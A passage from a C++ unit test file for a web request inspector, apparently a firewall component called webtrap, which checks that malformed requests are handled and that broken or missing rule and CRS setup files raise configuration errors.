                  "{\"a\": [1, 2"));
  cases.emplace_back("invalid multipart body",
                     makeRequest("POST", "/api",
                                 withHeaders({{"Content-Type", "multipart/form-data; boundary=x"}}),
                                 "--y\r\nbroken"));
  PersonaResponse large_response = pageResponse();
  large_response.body = std::string(4096, 'b');
  PersonaResponse head_response = pageResponse();
  head_response.omit_body = true;

  for (const auto& [name, request] : cases) {
    SCOPED_TRACE(name);
    auto result = inspector.inspect(request, large_response, {}, "unusual");
    EXPECT_EQ(result.status, InspectionStatus::kComplete) << result.error;
    auto head = inspector.inspect(request, head_response, {}, "unusual-head");
    EXPECT_EQ(head.status, InspectionStatus::kComplete) << head.error;
  }
}

TEST(InspectorConfigErrors, InvalidRuleFileNamesFile) {
  test_support::TempDir temp_dir("webtrap-inspector-test-rules");
  const fs::path& folder = temp_dir.path();
  {
    std::ofstream out(folder / "broken.conf");
    out << "SecRule ARGS \"@rx x\" \"id:77999,phase:2,pass,nosuchaction\"\n";
  }
  MetricsRegistry metrics;
  InspectorConfig config = baseConfig();
  config.webtrap_rules = folder;

  try {
    Inspector inspector(config, metrics);
    FAIL() << "expected ConfigError";
  } catch (const ConfigError& error) {
    EXPECT_NE(std::string(error.what()).find("broken.conf"), std::string::npos) << error.what();
  }
}

TEST(InspectorConfigErrors, MissingRulesFolderRejected) {
  MetricsRegistry metrics;
  InspectorConfig config = baseConfig();
  config.webtrap_rules = "/nonexistent/webtrap/rules";

  EXPECT_THROW(Inspector(config, metrics), ConfigError);
}

TEST(InspectorConfigErrors, MissingCrsSetupRejected) {
  MetricsRegistry metrics;
  InspectorConfig config = baseConfig();
  config.crs_setup = "/nonexistent/crs-setup.conf";

  EXPECT_THROW(Inspector(config, metrics), ConfigError);
}

}  // namespace
}  // namespace webtrap::probe
